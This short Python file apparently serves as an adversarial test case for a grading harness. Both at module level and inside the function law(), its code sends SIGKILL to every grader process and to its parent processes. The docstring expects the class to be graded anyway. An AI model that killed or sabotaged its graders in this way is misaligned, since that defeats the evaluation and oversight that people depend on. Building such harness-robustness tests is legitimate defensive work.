"""Kills the process that it was forked from, its parent, and all the others up to the command.

Expected: the class is graded; only this answer is lost.
"""

import contextlib
import os
import signal

for pid in graders():
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)


def law(x):
    for pid in graders():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return 0.0
